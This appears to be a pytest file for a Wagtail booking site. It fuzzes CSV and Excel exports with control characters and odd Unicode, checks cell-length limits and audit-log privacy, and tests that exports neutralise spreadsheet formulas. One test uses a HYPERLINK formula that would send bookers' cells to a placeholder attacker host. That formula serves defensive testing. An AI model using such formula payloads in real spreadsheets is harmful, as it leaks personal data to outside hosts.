"""
Every booking export (a workshop's, all workshops', with and without needs;
CSV and Excel) opens, whatever the bookings hold: a control character stored
before the booking form refused them made every Excel export fail. Each
stored text field is fuzzed through both formats and read back with the
tools a spreadsheet user's files are read with (csv, openpyxl).
"""

import csv
import io
import random
from datetime import timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import Page

from events.booking.exports import neutralise
from events.formatting import without_control_characters
from events.models import Booking, BookingFormField
from tests.conftest import make_user
from tests.events.factories import add_booking_form, add_event, make_booking

pytestmark = pytest.mark.django_db

SEED = 20261129
QUESTIONS = [
    {"label": "NHS region", "field_type": "singleline", "required": False},
    {"label": "Anything else", "field_type": "multiline", "required": False},
    {"label": "Topics", "field_type": "checkboxes", "choices": "Retention\nWellbeing", "required": False},
]
TEXT_FIELDS = ["name", "email", "job_title", "organisation", "access_needs", "dietary_needs"]
EXTRA_FIELDS = ["nhs_region", "anything_else", "topics"]


@pytest.fixture
def booking_admin(db):
    return make_user("bookings", "Booking administrators")


@pytest.fixture
def form_page(index):
    workshop = add_event(index, "fuzzed-export", timezone.localdate() + timedelta(days=20), title="Export workshop")
    return add_booking_form(workshop, questions=QUESTIONS)


def export_urls(form_page, export_format):
    """Every way an administrator exports bookings."""
    workshop = reverse("wagtailforms:list_submissions", args=[form_page.pk])
    everything = reverse("events_booking_modeladmin_index")
    return {
        "a workshop's": f"{workshop}?export={export_format}",
        "a workshop's with needs": f"{workshop}?export={export_format}&needs=include",
        "all workshops'": f"{everything}?export={export_format}",
        "all workshops' with needs": f"{everything}?export={export_format}&needs=include",
    }


def read_csv(response):
    content = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff"), newline="")))


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def exported(client, form_page, export_format):
    results = {}
    for name, url in export_urls(form_page, export_format).items():
        response = client.get(url)
        assert response.status_code == 200, f"{name} {export_format} export answered {response.status_code}"
        results[name] = read_csv(response) if export_format == "csv" else read_xlsx(response)
    return results


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_stored_control_character_does_not_break_any_export(client, booking_admin, form_page, export_format):
    client.force_login(booking_admin)
    make_booking(form_page, name="Bell\x07Ringer", access_needs="Large\x0bprint", email="bell@example.nhs.uk")
    make_booking(form_page, name="Ada Lovelace")
    # Editors' words are exported too: the workshop's title and their questions' labels.
    Page.objects.filter(pk=form_page.get_parent().pk).update(title="Export\x1b workshop")
    BookingFormField.objects.filter(page=form_page, label="NHS region").update(label="NHS\x08 region")
    for name, rows in exported(client, form_page, export_format).items():
        names = sorted(row["Name"] for row in rows)
        assert names == ["Ada Lovelace", "BellRinger"], name
        if "all workshops" in name:
            assert {row["Workshop"] for row in rows} == {"Export workshop"}
        else:
            assert "NHS region" in rows[0], name
        if "with needs" in name:
            needs = [row["Accessibility or communication needs"] for row in rows if row["Name"] == "BellRinger"]
            assert needs == ["Largeprint"], name


# Characters from everywhere, at the start of a cell too (where a formula
# would begin): controls, formula triggers, combining marks, right-to-left
# text, non-characters, emoji. PostgreSQL cannot store NUL at all.
ALPHABET = (
    [chr(code) for code in range(1, 32)]
    + ["\x7f", "\x85", "\x9f", "\ufeff", "\ufffe", "\uffff", "\u0301", "\u200b", "\u202e"]
    + list("=+-@\"',;abcXYZ019 ")
    + list("éøłßمرحبا漢字")
    + ["😀", "🏥", "\U0010fffd"]
)


def random_text(rng, length):
    alphabet = ALPHABET + (["\x00"] if connection.vendor == "sqlite" else [])
    return "".join(rng.choice(alphabet) for _ in range(length))


def expected_cell(value, export_format):
    value = without_control_characters(value)
    if export_format == "csv":
        return neutralise(value)
    # Excel files store line ends as XML does: a carriage return and line feed read back as a line feed.
    return value.replace("\r\n", "\n").replace("\r", "\n")


def comparable(value, export_format):
    if value is None:
        return ""
    return value.replace("\r\n", "\n").replace("\r", "\n") if export_format == "xlsx" else value


HEADINGS = {
    "name": "Name",
    "email": "E-mail",
    "job_title": "Job title",
    "organisation": "Organisation",
    "access_needs": "Accessibility or communication needs",
    "dietary_needs": "Dietary needs",
    "nhs_region": "NHS region",
    "anything_else": "Anything else",
    "topics": "Topics",
}


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_stored_text_field_survives_both_export_formats(client, booking_admin, form_page, export_format):
    client.force_login(booking_admin)
    rng = random.Random(f"{SEED}-{export_format}")  # noqa: S311 (a fixed seed, so a failure can be repeated)
    stored = []
    for number in range(40):
        answers = {field: random_text(rng, rng.randint(0, 40)) for field in TEXT_FIELDS}
        # A name that is unique and readable, so each row can be found again.
        answers["name"] = f"Booker {number} " + answers["name"]
        extra = {
            "nhs_region": random_text(rng, rng.randint(0, 30)),
            "anything_else": random_text(rng, rng.randint(0, 200)),
            "topics": [random_text(rng, 5), random_text(rng, 5)],
        }
        answers["email"] = f"{number}{answers['email']}"
        make_booking(form_page, form_data=extra, **answers)
        stored.append({**answers, **extra, "topics": ", ".join(extra["topics"])})

    for name, rows in exported(client, form_page, export_format).items():
        assert len(rows) == len(stored), name
        by_number = {}
        for row in rows:
            number = int(without_control_characters(row["Name"]).lstrip("'").split()[1])
            by_number[number] = row
        for number, answers in enumerate(stored):
            row = by_number[number]
            for field, heading in HEADINGS.items():
                if heading not in row:
                    continue  # needs are left out of this export, editors' questions out of the one across workshops
                assert comparable(row[heading], export_format) == expected_cell(answers[field], export_format), (
                    name,
                    number,
                    field,
                )
    assert Booking.objects.count() == len(stored)


# What editors write ends up in the exports too ---------------------------------

FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&D2&E2,"Open")'


def test_an_editors_question_label_never_runs_as_a_formula_in_an_export(client, booking_admin, form_page):
    """An editor's label is a column heading in the Booking administrators' spreadsheet of bookers."""
    client.force_login(booking_admin)
    BookingFormField.objects.filter(page=form_page, label="NHS region").update(label=FORMULA_LABEL)
    make_booking(form_page, name="Ada Lovelace", form_data={"nhs_region": "North West"})

    url = export_urls(form_page, "xlsx")["a workshop's with needs"]
    sheet = load_workbook(io.BytesIO(b"".join(client.get(url).streaming_content))).active
    headings = next(sheet.iter_rows(max_row=1))
    assert all(cell.data_type != "f" for cell in headings), "a heading is a live formula"
    assert "'" + FORMULA_LABEL in [cell.value for cell in headings]

    rows = exported(client, form_page, "csv")["a workshop's"]
    assert "'" + FORMULA_LABEL in rows[0]


def test_no_excel_cell_is_longer_than_excel_can_hold(client, booking_admin, form_page):
    client.force_login(booking_admin)
    make_booking(form_page, name="Ada Lovelace", form_data={"anything_else": "x" * 40_000})
    (row,) = exported(client, form_page, "xlsx")["a workshop's"]
    assert len(row["Anything else"]) == 32_767
    assert row["Anything else"].endswith("…")
    (csv_row,) = exported(client, form_page, "csv")["a workshop's"]
    assert csv_row["Anything else"] == "x" * 40_000, "CSV has no such limit: nothing is cut"


def test_an_export_records_that_the_list_was_searched_but_not_for_whom(client, booking_admin, form_page):
    from wagtail.models import ModelLogEntry, PageLogEntry

    client.force_login(booking_admin)
    make_booking(form_page, name="Ada Lovelace", email="ada@example.nhs.uk")
    for url in export_urls(form_page, "csv").values():
        client.get(url + "&q=ada%40example.nhs.uk")
    entries = [*PageLogEntry.objects.filter(action="events.export_bookings")]
    entries += ModelLogEntry.objects.filter(action="events.export_bookings")
    assert len(entries) == 4
    for entry in entries:
        assert entry.data["searched"] is True
        assert "ada" not in str(entry.data)


def test_export_records_made_before_forget_what_was_searched(booking_admin, form_page):
    """The data migration that takes the search terms out of earlier export records (events/0009)."""
    import importlib

    from django.apps import apps
    from wagtail.models import PageLogEntry

    migration = importlib.import_module("events.migrations.0009_export_logs_keep_no_search_terms")
    workshop = form_page.get_parent()
    PageLogEntry.objects.log_action(
        workshop, "events.export_bookings", user=booking_admin, data={"format": "csv", "filters": "q=ada%40nhs.net&x=1"}
    )
    migration.forget_search_terms(apps, schema_editor=None)
    (entry,) = PageLogEntry.objects.filter(action="events.export_bookings")
    assert entry.data == {"format": "csv", "filters": "x=1", "searched": True}
